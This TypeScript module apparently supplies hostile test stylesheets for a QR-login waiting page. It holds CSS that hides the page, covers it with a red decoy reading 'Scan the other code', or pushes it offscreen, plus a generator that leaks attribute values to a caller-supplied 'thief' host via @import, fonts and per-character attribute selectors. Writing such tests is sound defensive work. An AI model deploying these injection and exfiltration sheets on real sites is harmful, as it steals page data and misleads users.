/** Style sheets of a relying party that wants to hide, cover, move or read what the waiting page shows (T31, T94). */

/** Custom properties of our own sheets that whatever is secured leans on. */
const OUR_PROPERTIES = ['--page', '--surface', '--ink', '--muted', '--line', '--accent', '--stage', '--font', '--mono'];
/** Rules that take them away from whoever uses them. */
export const STOLEN_PROPERTIES = OUR_PROPERTIES.map(
  (name) => `@property ${name} { syntax: '<length>'; inherits: false; initial-value: 0px; }`,
);
const FONTS = ['system-ui', 'Segoe UI', 'Roboto', 'PingFang SC', 'Noto Sans CJK SC', 'sans-serif'];

const ERASER = `
*, *::before, *::after, :root, html, body, :host, :host(*), :host-context(*), main, #box, #box *, #qr, #qr svg, #qr path,
.site-host, .site-name, .match-code, .qrcode, .wrp_code, .impowerBox, ::slotted(*), ::part(qr) {
  display: none !important; visibility: hidden !important; opacity: 0 !important; width: 0 !important;
  height: 0 !important; font-size: 0 !important; color: transparent !important; transform: scale(0) !important;
  clip-path: inset(100%) !important; content-visibility: hidden !important; zoom: 0.01 !important;
}
${STOLEN_PROPERTIES.join('\n')}
${FONTS.map((name) => `@font-face { font-family: '${name}'; src: local('DejaVu Serif'), local('Times New Roman'), url(data:font/woff2;base64,d09GMg==); }`).join('\n')}
@keyframes arrive { from, to { opacity: 0; transform: scale(0); } }
@keyframes breathe { from, to { opacity: 0; } }
@layer { * { display: none !important; } }
@page { size: 1px 1px; }
@view-transition { navigation: auto; }
@counter-style decimal { system: cyclic; symbols: ''; }
`;

const BIG_CURSOR = `url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='128' height='128'%3E%3Crect width='128' height='128' fill='red'/%3E%3C/svg%3E") 64 64, pointer`;

const PAINT = `
  display: block !important; background: rgb(255 0 0) !important; color: rgb(255 0 0) !important; z-index: 2147483647 !important;
  box-shadow: 0 0 0 999px rgb(255 0 0) !important; outline: 999px solid rgb(255 0 0) !important; contain: none !important;
  overflow: visible !important; max-height: none !important; pointer-events: auto !important; cursor: ${BIG_CURSOR} !important;`;

/** The host stays in the flow and keeps its place open; what is in it comes out from there. */
const COVER = `
:host { ${PAINT} height: 200px !important; width: 900px !important; margin: 0 -300px !important; }
.impowerBox, .title, .info, .status, .brand, svg, p, *::before, *::after {
  ${PAINT} content: 'Scan the other code' !important; position: fixed !important;
  inset: -400px !important; width: 999px !important; height: 999px !important; margin: -99px !important;
  clip: auto !important; clip-path: none !important; overlay: auto !important; float: left; scroll-margin: 999px;
  position-anchor: --x; view-transition-name: all;
}
.impowerBox::before, .status_txt::after {
  border-image: linear-gradient(red, red) 1 / 1 / 999px !important; filter: drop-shadow(0 120px red) !important;
  backdrop-filter: invert(1) !important; mix-blend-mode: difference !important; perspective: 1px !important;
  transform: translate3d(0, 120px, 500px) scale(2) !important; animation: sweep 0.2s infinite alternate;
}
@keyframes sweep { from { translate: -999px -999px; } to { translate: 999px 999px; } }
`;

const PUSHER = `
:host, .impowerBox, .title, .info, .status, p {
  display: block !important; height: 5000px !important; min-width: 5000px !important; margin: 900px !important;
  padding: 900px !important; position: relative !important; top: -800px !important; line-height: 900px !important;
  font-size: 400px !important; zoom: 4; float: right; resize: both; overflow: scroll !important; order: -9; contain: none !important;
  writing-mode: vertical-rl; rotate: 45deg; scale: 6;
}
`;

/** Asks for something at `thief`, or next to itself, wherever CSS can ask, some of it only where an attribute fits. */
function reader(thief: string): string {
  let n = 0;
  const url = () => {
    n += 1;
    return `url("${thief}/leak-${n}")`;
  };
  const letters = [...'abcdefghijklmnopqrstuvwxyz0123456789_-'];
  return `
@import ${url()};
@import "${thief}/import-2.css" layer(a) supports(display: block) screen;
@import url(data:text/css,@import%20%22${encodeURIComponent(thief)}/import-3.css%22;);
@import "/other.css";
@namespace ${url()};
@font-face { font-family: thief; src: ${url()} format('woff2'), ${url()}; }
@font-face { font-family: digits; src: ${url()}; unicode-range: U+30-39; }
:host, .impowerBox, .title, .info, .status, .status_txt, .status_icon, p, span, svg, path, *::before, *::after, *::marker {
  content: ${url()}; background: ${url()}, image-set(${url()} 1x); cursor: ${url()}, pointer; list-style: ${url()};
  border-image-source: ${url()}; mask-image: ${url()}; -webkit-mask-box-image: ${url()}; filter: ${url()};
  clip-path: ${url()}; shape-outside: ${url()}; float: left; offset-path: ${url()}; fill: ${url()}; stroke: ${url()};
  marker-start: ${url()}; font-family: thief, digits; --leak: ${url()}; background-image: var(--leak);
}
:host::after, p::before { content: ${url()} 'x'; display: list-item; position: static; }
${letters.map((c) => `[id^="${c}"], [class*="${c}"], [href*="${c}"], [d*="${c}"], [data-phase^="${c}"], :host([class*="${c}"]) { background-image: ${url()}; }`).join('\n')}
body:has(#match-code) .title, :host-context(:has(#match-code:not([hidden]))) .title { background-image: ${url()}; }
@keyframes leak { from { background-image: ${url()}; } to { background-image: ${url()}; } }
.status { animation: leak 0.1s infinite; }
@media (min-width: 1px) { .status::after { content: ${url()}; } }
@container (min-width: 1px) { .status::before { content: ${url()}; } }
`;
}

export const hostileSheets = (thief: string): Readonly<Record<string, string>> => ({
  'hides everything': ERASER,
  'covers everything': COVER,
  'pushes everything away': PUSHER,
  'reads attributes and asks elsewhere': reader(thief),
});
